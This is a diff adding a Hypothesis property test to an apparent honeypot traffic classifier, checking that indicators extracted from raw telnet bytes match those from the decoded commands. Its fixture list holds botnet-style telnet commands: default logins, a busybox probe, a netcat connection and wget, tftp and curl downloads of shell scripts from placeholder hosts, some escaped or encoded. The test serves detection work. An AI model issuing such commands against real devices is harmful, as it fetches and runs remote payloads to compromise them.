@@ -16,12 +16,14 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from teiten.classify import decoding
+from teiten.classify.classifier import classify
 from teiten.classify.indicators import (
     _INTERESTING,
     extract_indicators,
     extract_indicators_from_bytes,
     might_interest,
 )
+from teiten.classify.telnet import commands_of
 
 _HEX = re.compile(r"\\x([0-9A-Fa-f]{2})")
 _OCT = re.compile(r"\\0?([0-3][0-7]{2})")
@@ -129,3 +131,22 @@ def test_spelled_and_escaped_forms_differ_only_where_the_notes_say() -> None:
     assert extract_indicators_from_bytes(b"\xffwget${IFS}198.51.100.7/x.sh\xfe") == (
         extract_indicators("\\xffwget${IFS}198.51.100.7/x.sh\\xfe")
     )
+
+
+COMMANDS = [
+    b"root", b"admin", b"enable", b"sh", b"/bin/busybox ECCHI", b"nc 198.51.100.7 4444",
+    b"wget http://198.51.100.7/x.sh", b"tftp -g -r m 198.51.100.7", b"cd /tmp; wget 198.51.100.7/a",
+    b"\\x77get http://198.51.100.7/b", b"curl%20http://loader.example/c", b"\xffwget\xfe",
+]  # fmt: skip
+telnet_lines = st.lists(st.sampled_from(COMMANDS) | payload_bytes, max_size=6).map(
+    lambda lines: b"\r\n".join(lines)
+)
+
+
+@settings(max_examples=300)
+@given(telnet_lines, st.sampled_from([None, b"login: Password: # ", b"Password: Login incorrect"]))
+def test_telnet_commands_read_from_bytes_give_the_text_indicators(
+    data: bytes, server: bytes | None
+) -> None:
+    c = classify(data, dst_port=23, server_bytes=server)
+    assert c.indicators == extract_indicators("\n".join(commands_of(c.logins)))
